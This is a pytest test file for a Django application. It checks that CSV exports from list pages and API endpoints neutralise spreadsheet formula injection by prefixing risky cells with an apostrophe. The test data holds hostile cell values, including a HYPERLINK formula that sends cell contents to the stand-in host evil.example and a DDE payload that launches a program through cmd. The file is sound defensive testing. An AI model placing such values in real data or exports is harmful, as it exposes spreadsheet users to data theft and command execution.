"""Formula injection in CSV exports: a cell a spreadsheet would run as a formula (starting with
=, +, -, @, a tab, carriage return or line feed) is written with a leading apostrophe, in every
list's ``?format=csv``, on the pages and in the API alike (one writer,
``core.csv_export``). Issue 17: a group title ``=HYPERLINK(…)`` was neutralised on
/groups/?format=csv but written raw by /api/v1/groups/?format=csv."""

import csv
import io

import pytest

from committees.models import Committee, Group, Standard
from core.csv_export import FORMULA_STARTS, csv_cell, write_csv
from liaisons.models import Organization
from meetings.models import Meeting
from tests.hostile_clients import *  # noqa: F403 (this module's fixtures)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# What each list's hostile record holds, per field: set through the models, as the admin or the
# API would store them (they are valid values).
HOSTILE = {
    "committee": {"title": HYPERLINK},
    "group": {"title": HYPERLINK},
    "standard": {"title": "+SUM(1,2)"},
    "organization": {"acronym": "@EVIL", "name": "-2+3+cmd|' /C calc'!A0", "country": "@SUM(1+1)"},
    "meeting": {"title": "\t=1+1", "country": "\r=2+2", "venue": "\n=3+3"},
}

# Each list, page and API, with the hostile cells it must show neutralised.
LISTS = [
    ("/committees/?format=csv", [HYPERLINK]),
    ("/groups/?format=csv", [HYPERLINK]),
    ("/liaisons/?format=csv", [HYPERLINK]),
    ("/organizations/?format=csv", ["@EVIL", HOSTILE["organization"]["name"]]),
    ("/meetings/?format=csv", ["\t=1+1", "\r=2+2", "\n=3+3"]),
    ("/api/v1/committees/?format=csv&page_size=200", [HYPERLINK]),
    ("/api/v1/groups/?format=csv&page_size=200", [HYPERLINK]),
    ("/api/v1/standards/?format=csv&page_size=200", ["+SUM(1,2)"]),
    ("/api/v1/committee-liaisons/?format=csv&page_size=200&search=207", []),
    ("/api/v1/organizations/?format=csv&page_size=200", ["@EVIL", HOSTILE["organization"]["name"], "@SUM(1+1)"]),
    ("/api/v1/organization-liaisons/?format=csv&page_size=200", ["@EVIL"]),
    ("/api/v1/meetings/?format=csv&page_size=200", ["\t=1+1", "\r=2+2", "\n=3+3"]),
    ("/api/v1/groups/iso-casco-wg-30/?format=csv", [HYPERLINK]),
]


@pytest.fixture
def hostile(casco_data):
    records = {
        "committee": Committee.objects.get(reference="ISO/TC 207"),
        "group": Group.objects.get(reference="ISO/CASCO/WG 30"),
        "standard": Standard.objects.order_by("pk").first(),
        "organization": Organization.objects.order_by("pk").filter(liaisons__isnull=False).first(),
        "meeting": Meeting.objects.order_by("pk").first(),
    }
    for name, fields in HOSTILE.items():
        record = records[name]
        for field, value in fields.items():
            setattr(record, field, value)
        record.save()


def cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


@pytest.mark.parametrize(("url", "expected"), LISTS, ids=[url for url, _ in LISTS])
def test_no_cell_starts_a_formula(client, hostile, url, expected):
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    written = cells(response.content)
    assert len(written) > 1
    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]
    for value in expected:
        assert f"'{value}" in written, (value, written[:40])


def test_the_liaison_list_in_the_api_neutralises_nested_labels(client, hostile):
    """A nested committee's cell is its reference; the liaison list's own cells stay safe too."""
    Committee.objects.filter(reference="ISO/TC 207").update(title=HYPERLINK)
    written = cells(client.get("/api/v1/committee-liaisons/?format=csv&page_size=200").content)
    assert "ISO/TC 207" in written and not [cell for cell in written if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_csv_cell_neutralises_each_start(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["ISO/TC 207", "1+1", "a=b", "", None, 2026, "café"])
def test_csv_cell_leaves_plain_text(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_write_csv_quotes_and_ends_lines_with_crlf():
    out = io.StringIO()
    write_csv(out, ["title", "country"], [['Say "hi", then =1', "-"]])
    assert out.getvalue() == 'title,country\r\n"Say ""hi"", then =1",\'-\r\n'
